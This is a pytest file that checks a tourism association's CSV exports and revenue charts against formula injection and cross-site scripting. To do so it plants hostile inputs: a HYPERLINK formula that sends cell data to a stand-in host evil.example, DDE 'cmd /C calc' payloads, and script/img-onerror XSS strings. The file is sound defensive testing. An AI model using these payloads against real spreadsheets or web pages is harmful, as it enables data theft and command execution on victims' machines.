"""CSV exports never hand a spreadsheet a formula, and the revenue charts escape names.

Names and references are typed by people (a family's name, a payout's reference, an
experience's title); a cell starting with ``=``, ``+``, ``-`` or ``@`` would run as a formula
when the treasurer opens the file, so such text leaves with a leading ``'``. Amounts, negative
ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest
from markupsafe import escape

from tests.routes.test_manage_access import EN
from tests.routes.test_reports import treasurer, world  # noqa: F401  (fixtures)
from tests.services.reports.test_revenue import clock  # noqa: F401  (fixture)
from tourism.database import utcnow
from tourism.models import AccountKind, PayoutMethod, TransactionKind
from tourism.services.ledger import journal as ledger
from tourism.services.treasury import batches, payouts, statements
from tourism.services.treasury.exports import spreadsheet_safe

FORMULAS = {
    "family": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reference": "+cmd|' /C calc'!A0",
    "guide": "-2+3+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.50", "-12.50"),
        ("-5", "-5"),
        ("12.50", "12.50"),
        ("Familia Grefa", "Familia Grefa"),
        ("", ""),
        (-1250, -1250),
        (None, None),
    ],
)
def test_text_that_could_run_gets_a_quote_and_numbers_stay_numbers(cell, safe):
    assert spreadsheet_safe(cell) == safe


def _cells(response) -> list[str]:
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    return [
        cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row
    ]


def _assert_no_formula(cells: list[str], *texts: str) -> None:
    for text in texts:
        assert text not in cells, f"{text!r} left as a formula"
        assert "'" + text in cells, f"{text!r} missing from the export"
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@"):
            float(cell)  # only numbers may start so


@pytest.fixture
def hostile(world, session):  # noqa: F811
    """The reports' world, with formulas for a family's and a guide's names, an experience's
    title, and a paid-out family whose payout reference is a formula."""
    world.woman.name = FORMULAS["family"]
    world.young.name = FORMULAS["guide"]
    world.cacao.texts[0].title = world.cacao.texts[1].title = FORMULAS["title"]
    available = ledger.account(session, AccountKind.FAMILY, family=world.woman, state="available")
    bank = ledger.account(session, AccountKind.BANK, world.association)
    ledger.post(session, kind=TransactionKind.ADJUSTMENT, lines=[(bank, 100), (available, -100)])
    family = payouts.as_beneficiary(world.association, world.woman)
    item = batches.BatchItem(family, 100, FORMULAS["reference"])
    batches.settle_batch(
        session, world.association, [item], PayoutMethod("cash"), world.young, utcnow()
    )
    session.commit()
    return world


def test_ledger_and_payout_exports_neutralise_formulas(client, hostile, treasurer):  # noqa: F811
    base = f"/manage/associations/{hostile.association.id}"
    ledger = _cells(client.get(f"{base}/ledger.csv"))
    _assert_no_formula(ledger, FORMULAS["family"])
    assert any(cell.startswith("-") for cell in ledger), "negative amounts stay numbers"
    payouts_csv = _cells(client.get(f"{base}/payouts.csv"))
    _assert_no_formula(payouts_csv, FORMULAS["reference"], FORMULAS["family"])


def test_report_tables_neutralise_formulas(client, hostile, treasurer):  # noqa: F811
    base = f"/manage/associations/{hostile.association.id}/reports"
    period = "?from=2025-01&to=2025-03"
    _assert_no_formula(_cells(client.get(f"{base}/experiences.csv{period}")), FORMULAS["title"])


def test_family_statement_export_neutralises_formulas(client, hostile, session):
    token = statements.statement_link_token(session, hostile.woman)
    session.commit()
    cells = _cells(client.get(f"/statements/families/{token}/statement.csv"))
    _assert_no_formula(cells, FORMULAS["title"])


def test_the_charts_escape_names(client, hostile, treasurer, session):  # noqa: F811
    payload = "<script>alert(1)</script>"
    hostile.guayusa.texts[1].title = payload
    hostile.man.name = '"><img src=x onerror=alert(1)>'
    session.commit()
    url = f"/manage/associations/{hostile.association.id}/reports?from=2025-01&to=2025-03"
    body = client.get(url, headers=EN).get_data(as_text=True)
    assert "<script" not in body.lower() and "<img src=x" not in body
    assert str(escape(payload)) in body
